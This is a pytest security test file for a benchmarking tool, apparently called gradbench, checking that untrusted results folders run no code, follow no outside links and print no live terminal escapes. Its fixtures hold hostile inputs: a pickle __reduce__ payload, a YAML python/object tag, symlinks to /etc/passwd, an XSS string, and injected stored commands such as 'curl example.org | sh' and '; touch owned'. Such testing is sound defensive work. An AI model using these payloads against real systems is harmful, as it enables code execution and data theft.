"""A results folder from a stranger is data, never code: it runs nothing, leads nowhere, and moves no terminal."""

import contextlib
import html
import json
import os
import pickle
import re
import shlex
from pathlib import Path
from types import SimpleNamespace
from zipfile import ZIP_DEFLATED, ZIP_LZMA, ZipFile

import numpy as np
import pandas as pd
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
import synthetic
import torch
import yaml
from hypothesis import given
from hypothesis import strategies as st
from small import CPU, cells, in_suites

from gradbench.atomic import write_atomically
from gradbench.cli import main as cli
from gradbench.cli.completion import complete_folders
from gradbench.config.hashing import canonical
from gradbench.errors import MAX_LENGTH, DamagedError, UsageError
from gradbench.launchers.worker import checkpoint_of, train_and_store
from gradbench.report.analysis import tables
from gradbench.report.analysis.answer import answer_all
from gradbench.report.analysis.audit import audit
from gradbench.report.analysis.comparison import list_comparisons
from gradbench.report.figures.panels import panels
from gradbench.report.load.cells import load_results
from gradbench.report.load.curves import scan_curves
from gradbench.report.render import contents
from gradbench.report.render.cells import list_cells, points_per_curve
from gradbench.storage import sanitize
from gradbench.storage.grids import read_experiment
from gradbench.storage.parquet import MAX_EXPANSION, check_arrays, read_arrays, read_table, write_table
from gradbench.storage.repair import find_damage
from gradbench.storage.results import Results
from gradbench.training.checkpoint import Checkpoint

ESCAPES = "\x1b]0;owned\x07\x1b[31m\x9b2J\u202egnp.exe\r[red]markup[/] [link=file:///etc]x[/link]"
SCRIPT = "<img src=x onerror=alert(1)><script>alert(1)</script>"
FEW = {"none": (), "clip_norm": (1.0,)}


CLAIM = {
    **{"id": "1", "sentence": "Clipping helps.", "metric": "test/accuracy", "goal": "max", "above": 0.1},
    **{"treatment": {"regularizer": "clip_norm"}, "control": {"regularizer": "none"}},
}


@pytest.fixture
def folder(tmp_path):
    """A sound folder; a test spoils it."""
    synthetic.write(tmp_path / "x", models=["mlp"], strengths=FEW, steps=5)
    return tmp_path / "x"


@pytest.fixture
def bomb(tmp_path):
    """An object that makes a folder when it is unpickled, and that folder's path."""
    crater = tmp_path / "crater"

    class Bomb:
        def __reduce__(self):
            return os.mkdir, (str(crater),)

    return Bomb(), crater


def gradbench(*words):
    with pytest.raises(SystemExit) as stopped:
        cli.main([str(word) for word in words])
    return stopped.value.code


def change(folder, **columns):
    """Overwrite columns of the table of cells."""
    path = folder / "cells/a.parquet"
    pd.read_parquet(path).assign(**columns).to_parquet(path)


def everything(folder):
    """Return all that a report says, but for its figures."""
    results = load_results(folder)
    groups = list_comparisons(results)
    scanned = scan_curves(folder, results.cells, (), points_per_curve(len(results.cells)))
    return [
        contents.format_subtitle(results),
        *(finding.text for finding in audit(results, groups, scanned.notes)),
        *map(str, answer_all(results, groups)),
        str(list_cells(results, scanned.sparklines)),
        *(table.to_csv() for table in tables.build_tables(results, groups, scanned.action).values()),
    ]


def warnings(folder):
    results = load_results(folder)
    return "\n".join(finding.text for finding in audit(results, list_comparisons(results)) if finding.warning)


# ---- it runs nothing -------------------------------------------------------------------------------------------


def test_pickled_arrays_are_not_unpickled(folder, bomb):
    thing, crater = bomb
    (folder / "arrays").mkdir()
    cell = pd.read_parquet(folder / "cells")["cell"][0]
    path = folder / f"arrays/{cell}.npz"
    np.savez(path, samples=np.array([thing], dtype=object), allow_pickle=True)
    with pytest.raises(DamagedError, match="allow_pickle=False"):
        read_arrays(path)
    assert load_results(folder).arrays_of(cell) == {}
    path.write_bytes(pickle.dumps(thing))
    assert load_results(folder).arrays_of(cell) == {}
    assert str(path) in warnings(folder)
    assert not crater.exists()


@pytest.mark.parametrize("name", ["arrow.py_extension_type", "pandas.period"])
def test_types_that_would_be_unpickled_are_no_columns(folder, bomb, name):
    thing, crater = bomb
    metadata = {"ARROW:extension:name": name, "ARROW:extension:metadata": pickle.dumps(thing)}
    table = pq.read_table(folder / "cells/a.parquet")
    field = pa.field("note", pa.binary(), metadata=metadata)
    pq.write_table(table.append_column(field, [[b"x"] * len(table)]), folder / "cells/b.parquet")
    with pytest.raises(DamagedError):
        read_table(folder / "cells/b.parquet")
    assert "b.parquet is damaged" in warnings(folder)
    assert not crater.exists()


def test_an_experiment_file_instantiates_nothing(folder, tmp_path):
    crater = tmp_path / "crater"
    (folder / "experiment.yaml").write_text(f"question: !!python/object/apply:os.mkdir ['{crater}']\n")
    assert load_results(folder).question == ""
    assert "cannot read" in warnings(folder)
    assert not crater.exists()


@pytest.mark.parametrize(
    "text",
    [
        "a: &a [x, x]\nb: &b [*a, *a]\n"
        + "".join(f"c{n}: &c{n} [*b, *b]\n" for n in range(9))
        + "question: *b",
        "question: " + "[" * 5000,
        "- a list\n- of words",
        "question: {nested: mapping}\ncommand: 5\nexperiment: null",
        "\x00\x01",
    ],
    ids=["bomb", "deep", "list", "mapping", "binary"],
)
def test_an_experiment_file_of_any_shape_is_read_or_left(folder, text):
    (folder / "experiment.yaml").write_text(text)
    results = load_results(folder)
    assert (results.name, results.question, results.commands) == ("x", "", ())


def test_nothing_stored_is_instantiated(folder, tmp_path, monkeypatch, capsys):
    """Targets come from configs; a target in a table is a word like another."""

    def forbidden(*_, **__):
        raise AssertionError("a stored target was called")

    monkeypatch.setattr("hydra.utils.instantiate", forbidden)
    monkeypatch.setattr("gradbench.config.instantiate.instantiate", forbidden)
    target = {f"{group}._target_": "os.mkdir" for group in ("model", "regularizer", "data", "optimizer")}
    change(folder, **target, **{"model.path": str(tmp_path / "crater")})
    cell = pd.read_parquet(folder / "cells")["cell"][0]
    everything(folder)
    assert gradbench("show", cell, "--results", folder) == 0
    assert "os.mkdir" in capsys.readouterr().out
    assert not (tmp_path / "crater").exists()


@pytest.mark.parametrize("theirs", ["bomb", "wrong shape", "another user's", "large"])
def test_a_planted_checkpoint_is_set_aside_and_its_stack_trained_anew(tmp_path, bomb, theirs, monkeypatch):
    thing, crater = bomb
    results = Results(tmp_path / "x")
    results.create({})
    stack = cells("mlp", "none", seed=[0], steps=4, eval_every=4, model__hidden=4)
    planted = checkpoint_of(stack, results.folder, CPU, lambda: False, print)
    planted.save({"state": thing} if theirs == "bomb" else {"step": 3})
    if theirs == "large":
        os.truncate(planted.path, 40 << 30)
    if theirs == "another user's":
        monkeypatch.setattr(os, "getuid", lambda: 12345)

    said = []
    pipe = SimpleNamespace(poll=lambda: False, send=said.append)
    what, *_ = train_and_store(stack, results.folder, CPU, pipe)
    if (
        theirs == "wrong shape"
    ):  # it has our own user, cells, versions and checksum: its shape is all that betrays it
        assert what == "failed"
    else:
        assert what == "done"
        assert any("starts anew" in str(message) for message in said)
        assert any("more than a run writes" in str(message) for message in said) == (theirs == "large")
    assert not crater.exists()


def test_a_checkpoint_in_the_right_words_holds_tensors_or_nothing(tmp_path, bomb):
    thing, crater = bomb
    checkpoint = Checkpoint(tmp_path / "x.pt", {}, 0.0)
    for content in ({"a": thing}, {"a": torch.nn.Linear(1, 1)}, {"a": Path}):
        checkpoint.save(content)
        assert checkpoint.load(CPU) is None
    assert not crater.exists()


# ---- it leads nowhere ------------------------------------------------------------------------------------------


def assert_refused(folder, what, capsys):
    """Type every command that opens a results folder: each says what is wrong, in one line, and ends with status 2."""
    sound = folder.parent / "sound"
    synthetic.write(sound, models=["mlp"], strengths=FEW, steps=5)
    for command in (
        ("run", "model=mlp", "steps=2", "device=cpu", "--results", folder),
        ("run", "model=mlp", "steps=2", "device=cpu", "--dry-run", "--results", folder),
        ("report", folder),
        ("report", sound, folder),
        ("report", folder, sound),
        ("claims", folder),
        ("show", "", "--results", folder),
    ):
        assert gradbench(*command) == 2, command
        err = capsys.readouterr().err
        assert what in err
        assert "remove it" in err
        assert len(err.splitlines()) == 1


@pytest.fixture
def secret(tmp_path):
    path = tmp_path / "secret"
    path.mkdir()
    (path / "a.parquet").write_bytes(b"mine")
    (path / "a.png").write_bytes(b"mine")
    return path


LINKS = {
    "cells/b.parquet": "secret/a.parquet",
    "curves/b.parquet": "secret/a.parquet",
    "arrays/0123456789abcdef.npz": "secret/a.parquet",
    "arrays": "secret",
    "checkpoints": "secret",
    "report": "secret",
    "report/figures": "secret",
    "experiment.yaml": "secret/a.parquet",
    "cells/absent.parquet": "secret/absent.parquet",
}


@pytest.mark.parametrize("link", LINKS)
def test_a_link_that_leads_outside_is_refused_before_anything_is_read_or_written(
    folder, secret, link, tmp_path, capsys
):
    path = folder / link
    path.parent.mkdir(exist_ok=True)
    path.unlink(missing_ok=True)
    path.symlink_to(tmp_path / LINKS[link])
    results = Results(folder)
    assert_refused(folder, f"{path} is a link to {tmp_path / 'secret'}", capsys)
    with pytest.raises(UsageError, match="is a link to"):
        results.create({})
    assert {name.name: name.read_bytes() for name in secret.iterdir()} == {
        "a.parquet": b"mine",
        "a.png": b"mine",
    }


@pytest.mark.parametrize("place", ["experiment.yaml", "cells/b.parquet", "arrays/a.npz", ".reservations"])
def test_a_pipe_in_place_of_a_file_keeps_no_command_waiting(folder, place, capsys):
    (folder / place).parent.mkdir(exist_ok=True)
    (folder / place).unlink(missing_ok=True)
    os.mkfifo(folder / place)
    assert_refused(folder, f"{folder / place} is neither a file nor a folder", capsys)


def test_a_comparison_is_not_written_through_a_link(folder, secret, tmp_path, capsys):
    (tmp_path / "out").mkdir()
    (tmp_path / "out/figures").symlink_to(secret)
    synthetic.write(tmp_path / "y", models=["mlp"], strengths=FEW, steps=5)
    assert gradbench("report", folder, tmp_path / "y", "--out", tmp_path / "out") == 2
    assert "is a link to" in capsys.readouterr().err
    assert len(list(secret.iterdir())) == 2


def test_folders_beside_the_one_that_is_meant_are_no_reason_to_fail(folder, tmp_path, monkeypatch, capsys):
    """A pipe, an endless device, a link to everything and a file in place of a folder lie below results/."""
    monkeypatch.chdir(tmp_path)
    for name in ("pipe", "zero", "unreadable"):
        (Path("results") / name / "cells").mkdir(parents=True)
    os.mkfifo("results/pipe/cells/a.parquet")
    os.mkfifo("results/pipe/experiment.yaml")
    Path("results/zero/cells/a.parquet").symlink_to("/dev/zero")
    Path("results/zero/experiment.yaml").symlink_to("/dev/zero")
    Path("results/unreadable/cells/a.parquet").mkdir()
    Path("results/everything").symlink_to("/")
    Path("results/file").write_text("")
    os.mkfifo("results/lonely")
    (Path("results") / f"x{ESCAPES.replace('/', '')}" / "cells").mkdir(parents=True)
    folder.rename("results/x")
    cell = pd.read_parquet("results/x/cells")["cell"][0]
    assert gradbench("run", "model=mlp", "steps=2", "device=cpu", "--dry-run") == 0
    assert gradbench("show", cell) == 0
    assert gradbench("claims", "results/x") == 0
    assert gradbench("claims", "results") == 0
    capsys.readouterr()
    assert gradbench("show", "nothing") == 2
    assert "not searched: results/pipe/" in capsys.readouterr().err
    assert set(complete_folders("")) == {f"results/{name}" for name in ("pipe", "zero", "unreadable", "x")}


def test_a_link_within_the_folder_and_a_link_to_it_are_fine(folder, tmp_path):
    (folder / "latest.yaml").symlink_to("experiment.yaml")
    (tmp_path / "alias").symlink_to(folder)
    Results(tmp_path / "alias").check()
    assert len(load_results(tmp_path / "alias").cells) == 6


def test_a_link_laid_where_a_temporary_file_would_be_is_not_written_through(tmp_path, secret):
    target = tmp_path / "x.parquet"
    target.with_name(f".x.parquet.{os.getpid()}.tmp").symlink_to(secret / "a.parquet")
    write_atomically(target, lambda file: file.write(b"ours"))
    assert target.read_bytes() == b"ours"
    assert (secret / "a.parquet").read_bytes() == b"mine"


@pytest.mark.parametrize(
    "cell", ["../../secret/a", "/etc/passwd", "0123456789ABCDEF", "0123456789abcde\n", "", 7]
)
def test_what_is_no_cell_s_id_is_no_cell(folder, secret, cell, capsys):
    path = folder / "cells/b.parquet"
    table = pd.read_parquet(folder / "cells/a.parquet")[:1].assign(cell=[cell], seed=[9])
    table.to_parquet(path)
    assert "1 rows left out: not what a run writes" in warnings(folder)
    assert len(load_results(folder).cells) == 6
    assert gradbench("show", str(cell) or "nothing", "--results", folder) == 2
    (folder / "cells/failed-..").mkdir()
    Results(folder).unify_schemas()
    assert (secret / "a.parquet").read_bytes() == b"mine"


# ---- it is no larger than it says -------------------------------------------------------------------------------


def repeated(rows, characters):
    """Return a column in which every row repeats one text."""
    words = pa.DictionaryArray.from_arrays(pa.array(np.zeros(rows, "int32")), pa.array(["x" * characters]))
    return pa.table({"cell": words})


LARGE = {
    "rows": (pa.table({"cell": pa.nulls(10_000_000)}), {}, "10,000,000 rows are more than its"),
    "texts": (repeated(20_000, 100_000), {"store_schema": False}, "texts are longer than its"),
    "gzip": (pa.table({"cell": ["x" * 1_000_000]}), {"compression": "gzip"}, "its compression is GZIP"),
    "name": (pa.table({"x" * 200_000: [1]}), {}, "a column's name is longer"),
}


@pytest.mark.parametrize("kind", LARGE)
def test_a_part_that_is_larger_than_its_file_can_hold_is_damaged_and_not_read(folder, kind, monkeypatch):
    table, options, why = LARGE[kind]
    path = folder / "cells/b.parquet"
    pq.write_table(table, path, **options)
    assert path.stat().st_size < 1_000_000
    with pytest.raises(DamagedError, match=why):
        read_table(path)
    assert "b.parquet is damaged" in warnings(folder)
    assert len(load_results(folder).cells) == 6


def test_parts_that_are_small_alone_make_no_large_table(folder):
    """A thousand columns in one part and a million rows in another would be a billion values."""
    pq.write_table(pa.table({f"c{n}": [1] for n in range(1000)}), folder / "cells/b.parquet")
    pq.write_table(pa.table({"cell": pa.nulls(1_000_000)}), folder / "cells/c.parquet")
    assert len(read_table(folder / "cells/c.parquet")) == 1_000_000
    assert "c.parquet is damaged (with it the table is larger than its files can hold)" in warnings(folder)
    assert len(Results(folder).cells()) == 7


def sparse(path, size):
    """Give a file a size that takes no room."""
    path.touch()
    os.truncate(path, size)


def test_a_file_of_absurd_size_is_damaged_and_not_read(folder):
    cell = pd.read_parquet(folder / "cells")["cell"][0]
    (folder / "arrays").mkdir()
    for path in (folder / "cells/b.parquet", folder / "curves/b.parquet", folder / f"arrays/{cell}.npz"):
        sparse(path, 40 << 30)
    sparse(folder / "experiment.yaml", 40 << 30)
    said = "\n".join(everything(folder))
    assert said.count("has 42,949,672,960 bytes, more than a run writes") == 4


ARRAYS = {
    "zeros": (ZIP_DEFLATED, 2**24, 128, "more than it can hold"),
    "shape": (ZIP_DEFLATED, 10**13, 1, "allocate"),
    "lzma": (ZIP_LZMA, 2**17, 1, "compressed as a run compresses nothing"),
}
"""Kind -> compression, numbers that the header claims, mebibytes of zeros, what is said."""


@pytest.mark.parametrize("kind", ARRAYS)
def test_arrays_that_are_larger_than_their_file_can_hold_are_damaged_and_not_read(tmp_path, kind):
    compression, claimed, mebibytes, why = ARRAYS[kind]
    path = tmp_path / "x.npz"
    with ZipFile(path, "w", compression) as archive, archive.open("x.npy", "w") as file:
        header = {"descr": "<f8", "fortran_order": False, "shape": (claimed,)}
        np.lib.format.write_array_header_1_0(file, header)
        for _ in range(mebibytes):
            file.write(bytes(2**20))
    with pytest.raises(DamagedError, match=why):
        read_arrays(path)
    if kind != "shape":  # whose bytes are those that were written, few as they are
        with pytest.raises(DamagedError, match=why):
            check_arrays(path)


BOMBS = {
    "aliases": "a0: &a0 [x]\n"
    + "".join(f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 10)}]\n" for n in range(1, 9))
    + "question: *a8",
    "merges": "a0: &a0 {x: 1}\n"
    + "".join(f"a{n}: &a{n} {{<<: [{', '.join([f'*a{n - 1}'] * 10)}]}}\n" for n in range(1, 9)),
    "digits": f"question: 1{':1' * 100_000}",
}


@pytest.mark.parametrize("kind", BOMBS)
def test_an_experiment_file_that_stands_for_more_than_it_says_is_left(folder, kind, capsys):
    path = folder / "experiment.yaml"
    path.write_text(BOMBS[kind])
    assert "cannot read" in warnings(folder)
    assert gradbench("claims", folder) == 2
    path.write_text(f"grid: {{seed: 1}}\n{BOMBS[kind]}")
    assert gradbench("run", path, "--dry-run") == 2
    said = capsys.readouterr().err.splitlines()
    assert len(said) == 2
    assert all(re.search("aliases stand for|a number has", line) for line in said)


LONG = "x" * 200_000


@pytest.mark.parametrize(
    "words",
    [
        ["run", "model=mlp", f"model.unit={LONG}"],
        ["run", "model=mlp", f"+{LONG}=1"],
        ["run", "model=mlp", f"+a={{{LONG}:1}}"],
        ["run", "model=mlp", f"optimizer.lr={'1' * 200_000}"],
        ["run", "model=mlp", f"seed=1,{'2' * 200_000},"],
        ["run", f"~{LONG}"],
        ["run", LONG],
        ["run", f"{LONG}.yaml"],
        ["run", "model=mlp", "steps=1", "--results", LONG],
        ["run", "--config-dir", LONG],
        ["report", LONG],
        ["claims", LONG],
        ["show", LONG],
        ["show", "a", "--results", LONG],
        ["info", LONG],
    ],
    ids=lambda words: " ".join(word.replace(LONG, "LONG")[:20] for word in words),
)
def test_a_name_of_absurd_length_is_one_short_line(words, tmp_path, monkeypatch, capsys):
    monkeypatch.chdir(tmp_path)
    assert gradbench(*words) == 2
    said = capsys.readouterr().err
    assert len(said.splitlines()) == 1
    assert len(said) < 5000
    assert not list(tmp_path.iterdir())


def test_a_claim_of_absurd_length_is_refused(tmp_path, capsys):
    claim = {"id": "1", "sentence": LONG, "metric": "test/accuracy", "goal": "max", "above": 0.1}
    (tmp_path / "x.yaml").write_text(yaml.safe_dump({"grid": {"model": "mlp"}, "claims": [claim]}))
    assert gradbench("run", tmp_path / "x.yaml", "--dry-run") == 2
    assert "the value of sentence, xxx" in capsys.readouterr().err


def test_names_in_a_table_are_shown_as_far_as_a_plan_allows_them(folder):
    columns = ("model", "data", "model.unit", "error", "torch")
    change(folder, **dict.fromkeys(columns, LONG))
    spec = {"experiment": LONG, "question": LONG, "command": "gradbench run quick"}
    (folder / "experiment.yaml").write_text(yaml.safe_dump(spec))
    results = load_results(folder)
    shown = [
        results.name,
        results.question,
        *(results.cells[column][0] for column in columns if column != "error"),
    ]
    assert max(map(len, shown)) <= MAX_LENGTH + 1
    assert len(results.cells["error"][0]) < len(LONG)
    figure, _ = panels(LONG, [LONG, LONG], 1)
    assert figure.get_figheight() < 20


def test_parts_that_git_keeps_are_far_from_any_bound():
    kept = sorted(Path(__file__).parents[1].glob("results/*/*/c*/*.parquet"))
    assert kept
    for path in kept:
        table = read_table(path)
        assert (
            max(table.nbytes, 8 * table.num_rows * table.num_columns)
            < MAX_EXPANSION / 10 * path.stat().st_size
        )


@pytest.mark.slow
def test_a_sweep_of_a_hundred_thousand_cells_is_within_every_bound(tmp_path):
    """One part for all of them, columns that never vary, and a list of cells in ``experiment.yaml``."""
    results, n, rng = Results(tmp_path / "x"), 100_000, np.random.default_rng(0)
    ids = [f"{number:016x}" for number in rng.permutation(n)]
    spec = {"grid": {"seed": list(range(50_000)), "optimizer.lr": [0.1, 0.2]}}
    results.create({"experiment": "x", "cells": ids, "spec": spec})
    assert read_experiment(results.folder)["cells"] == ids
    columns = {f"model.option_{number}": np.full(n, "a value that all cells share") for number in range(90)}
    commands = [f"gradbench run model=mlp seed={number}" for number in range(n)]
    cells = pa.table({"cell": ids, "status": ["completed"] * n, "command": commands, **columns})
    write_table(results.folder / "cells/a.parquet", cells)
    for part in range(10):  # a curve has 20 rows: two million in all
        own = np.repeat(ids[part::10], 20)
        numbers = {f"series_{number}": rng.normal(size=len(own)).astype("float32") for number in range(4)}
        curves = {"cell": own, "step": np.tile(np.arange(1, 21), n // 10), **numbers}
        write_table(results.folder / f"curves/{part}.parquet", pa.table(curves))
    assert len(results.cells()) == n
    assert find_damage(results.folder) == []
    assert len(results.curves()) == 20 * n


# ---- it moves no terminal and no browser -----------------------------------------------------------------------


def assert_tame(text):
    wild = {char for char in text if not char.isprintable() and char not in "\n\t"}
    assert not wild, f"a terminal would obey {wild}"


@given(st.text())
def test_plain_text_is_printable_and_says_what_was_there(text):
    shown = sanitize.escape_controls(text)
    assert_tame(shown)
    assert sanitize.escape_controls(shown) == shown
    if all(char.isprintable() for char in text):
        assert shown == text


@pytest.fixture
def wild(folder):
    """A folder in which every word that a person may get to read is an attack."""
    words = ("model", "model.unit", "data", "device", "error", "torch", "started", "status_note")
    change(
        folder,
        command=shlex.join(["gradbench", "run", "--config-dir", ESCAPES]),
        **dict.fromkeys(words, ESCAPES + SCRIPT),
        **{ESCAPES + SCRIPT: 1.5, f"test/{ESCAPES}": 0.5},
    )
    spec = {
        "experiment": ESCAPES + SCRIPT,
        "question": ESCAPES + SCRIPT,
        "command": shlex.join(["gradbench", "run", "--config-dir", ESCAPES]),
        "spec": {"claims": [CLAIM]},
    }
    (folder / "experiment.yaml").write_text(yaml.safe_dump(spec))
    (folder / f"cells/{ESCAPES.replace('/', '')}.parquet").write_bytes(b"torn")
    return folder


def test_show_prints_escapes_and_markup_as_they_are_written(wild, capsys, monkeypatch):
    monkeypatch.setenv("COLUMNS", "4000")
    cell = pd.read_parquet(wild / "cells/a.parquet")["cell"][0]
    assert gradbench("show", cell, "--results", wild) == 0
    shown = capsys.readouterr().out
    assert_tame(shown)
    assert r"\x1b]0;owned\x07" in shown
    assert "[red]markup[/]" in shown
    assert r"\u202e" in shown
    assert gradbench("show", "ffff", "--results", wild) == 2
    assert_tame(capsys.readouterr().err)


def test_report_prints_escapes_as_they_are_written_and_its_page_runs_one_script(wild, capsys, monkeypatch):
    monkeypatch.setenv("COLUMNS", "4000")
    assert gradbench("report", wild) == 0
    assert gradbench("claims", wild) == 0
    shown = "".join(capsys.readouterr())
    assert_tame(shown)
    assert shown.count("It runs code named by ") == 2
    assert "[red]markup[/]" in shown
    page = (wild / "report/index.html").read_text()
    assert_tame(page)
    assert re.findall("<script[^>]*>", page) == ['<script type="application/json" id="data">', "<script>"]
    assert "<img src=x" not in page
    for table in (wild / "report/tables").iterdir():
        assert_tame(table.read_text())


def test_an_error_about_a_hostile_name_is_one_tame_line(tmp_path, capsys):
    synthetic.write(tmp_path / "x", models=["mlp"], strengths=FEW, steps=5)
    (tmp_path / "x/cells" / ("a\nb" + ESCAPES.replace("/", ""))).symlink_to("/etc/passwd")
    assert gradbench("report", tmp_path / "x") == 2
    err = capsys.readouterr().err
    assert_tame(err)
    assert len(err.splitlines()) == 1


@pytest.mark.parametrize(
    "command",
    [
        "gradbench run model=mlp; touch owned",
        "gradbench run $(touch owned)",
        "gradbench run model=mlp\ntouch owned",
        "curl example.org | sh",
        "gradbench run 'unfinished",
        "",
        None,
        5,
    ],
)
def test_a_stored_command_that_is_more_than_a_run_is_never_offered(folder, command, capsys):
    change(folder, command=command)
    (folder / "experiment.yaml").write_text(json.dumps({"command": command}))
    assert not sanitize.is_command(command)
    results = load_results(folder)
    assert results.commands == ()
    data = list_cells(results, {}).data
    offered = {ident: " ".join(data["words"][word] for word in row[10]) for ident, *row in data["rows"]}
    assert offered == {cell: f"gradbench show {cell}" for cell in results.cells["cell"]}
    assert gradbench("show", results.cells["cell"][0], "--results", folder) == 0
    assert "rerun it alone" not in capsys.readouterr().out


FOREIGN = {
    "gradbench run quick --config-dir my_conf": "--config-dir my_conf",
    "gradbench run --config-dir=my_conf quick": "--config-dir=my_conf",
    "gradbench run model=mlp model._target_=os.system": "model._target_=os.system",
    "gradbench run '+model={_target_: os.system}'": "+model={_target_: os.system}",
    "gradbench run model=classifier model.network=my_pkg.Net": "model.network=my_pkg.Net",
    "gradbench run +network=Net": "+network=Net",
    "gradbench run data=own data.loader=load": "data.loader=load",
    "gradbench run '+a=[1,my_pkg.load]' data=wine": "+a=[1,my_pkg.load]",
    "gradbench run +model@a=../../../theirs": "+model@a=../../../theirs",
}
"""Command -> its words that name code or configs that gradbench does not ship."""


@pytest.mark.parametrize("command", FOREIGN)
def test_words_of_a_stored_command_that_name_code_are_found(command):
    assert sanitize.is_command(command)
    why = f"It runs code named by {FOREIGN[command]}, which is looked for in the folder where it is typed."
    assert sanitize.caution(command) == why
    assert not sanitize.is_offered(command)


@pytest.mark.parametrize(
    ("words", "does"),
    [
        ("results/x/theirs.yaml", "reads results/x/theirs.yaml"),
        ("theirs.yml seed=3", "reads theirs.yml"),
        ("a.yaml model.network=a.B", "runs code named by model.network=a.B and reads a.yaml"),
    ],
)
def test_an_experiments_file_is_read_and_runs_no_code(words, does):
    command = f"gradbench run {words}"
    why = f"It {does}, which is looked for in the folder where it is typed."
    assert sanitize.caution(command) == why
    assert not sanitize.is_offered(command)


def test_a_stored_command_that_names_code_is_shown_and_not_offered(folder, capsys, monkeypatch):
    monkeypatch.setenv("COLUMNS", "4000")
    command = "gradbench run quick --config-dir my_conf"
    why = sanitize.caution(command)
    change(folder, command=command)
    (folder / "experiment.yaml").write_text(json.dumps({"command": command, "spec": {"claims": [CLAIM]}}))
    data = list_cells(load_results(folder), {}).data
    for row in data["rows"]:
        assert " ".join(data["words"][word] for word in row[11]) == command
        assert data["words"][row[-1]] == why
    for words in (["report", folder], ["claims", folder]):
        assert gradbench(*words) == 0
        said = capsys.readouterr().out.splitlines()
        assert said[said.index(f"command: {command}") + 1].strip() == why
    assert gradbench("show", data["rows"][0][0], "--results", folder) == 0
    said = capsys.readouterr().out.splitlines()
    assert said[said.index(command) - 1].strip() == f"its command. {why}"
    assert why in html.unescape((folder / "report/index.html").read_text().partition("<nav")[0])
    assert why in (folder / "report/report.md").read_text().replace("\\", "")


@pytest.mark.parametrize(
    "command",
    [
        "gradbench run quick --results results/v1.beta",
        "gradbench run data=text data.path=my.corpus.txt",
        "gradbench run optimizer.lr=0.1,1e-3 regularizer.threshold=.5 'optimizer.betas=[0.5,0.9]'",
        "",
    ],
)
def test_a_stored_command_that_names_no_code_is_offered(command):
    assert sanitize.caution(command) == ""


@pytest.mark.parametrize("model", ["lstm", "mlp", "wgan"])
def test_the_commands_of_real_cells_are_offered(model):
    for cell in cells(model, "gp", seed=[0, 1], optimizer="adam", optimizer__betas=[[0.5, 0.9]]):
        assert sanitize.is_command(cell.command()), canonical(cell.words)
        assert sanitize.caution(cell.command()) == ""


# ---- columns of any kind ---------------------------------------------------------------------------------------


KINDS = {
    "words": ["x"] * 6,
    "escapes": [ESCAPES] * 6,
    "nothing": [None] * 6,
    "numbers": [float("nan"), float("inf"), -1.0, 0.0, 1e9, 2.0],
    "truths": [True, False] * 3,
    "mixed": ["1", None, "x", "inf", "nan", "2"],
    "large": [2**62] * 6,
}
COLUMNS = [
    *("cell", "status", "seed", "model", "model.metric", "model.goal", "model.unit", "regularizer"),
    *("regularizer.strength", "regularizer.threshold", "optimizer.lr", "steps", "diverged_at", "error"),
    *(
        "test/accuracy",
        "step_seconds",
        "seconds",
        "started",
        "finished",
        "device",
        "git_dirty",
        "data",
        "command",
    ),
    "data_sha256",
]


NEEDED = {"model", "model.metric", "model.goal", "regularizer"}
REFUSED = {
    "words": {"seed"},
    "escapes": {"seed"},
    "nothing": {*NEEDED, "seed"},
    "numbers": NEEDED,
    "truths": NEEDED,
    "large": NEEDED,
}
"""Kind -> columns in which it leaves no row that could be a cell's; beside id and status."""


@in_suites("kind", [(kind,) for kind in [*KINDS][::3]], [(kind,) for kind in KINDS])
def test_a_column_of_any_kind_is_reported_or_refused_in_one_line(folder, kind, capsys):
    """Every column is read, and with every kind some are reported and shown: over all kinds, each is."""
    original = pd.read_parquet(folder / "cells/a.parquet")
    for place, column in enumerate(COLUMNS, start=list(KINDS).index(kind)):
        original.assign(**{column: KINDS[kind]}).to_parquet(folder / "cells/a.parquet")
        refused = column in {"cell", "status"} | REFUSED.get(kind, set())
        with pytest.raises(UsageError) if refused else contextlib.nullcontext():
            everything(folder) if place % 4 == 0 else load_results(folder)
        if place % 7 == 0:
            gradbench("show", original["cell"][0], "--results", folder)
            assert_tame("".join(capsys.readouterr()))


def test_a_curve_of_any_kind_is_reported(folder):
    original = pd.read_parquet(folder / "curves/a.parquet")
    for column in ("cell", "step", "loss", "grad_norm"):
        for values in KINDS.values():
            changed = (values * len(original))[: len(original)]
            original.assign(**{column: changed}).to_parquet(folder / "curves/a.parquet")
            results = load_results(folder)
            scan_curves(folder, results.cells, (), 20)


@pytest.mark.parametrize(
    "column",
    [pa.array([[1]] * 6), pa.array([{"a": 1}] * 6), pa.array([b"x"] * 6)],
    ids=["lists", "structs", "bytes"],
)
def test_columns_that_hold_more_than_numbers_and_words_are_refused(folder, column):
    table = pq.read_table(folder / "cells/a.parquet")
    pq.write_table(table.append_column("more", column), folder / "cells/a.parquet")
    with pytest.raises(UsageError, match=r"a\.parquet is damaged .*not numbers and words"):
        load_results(folder)
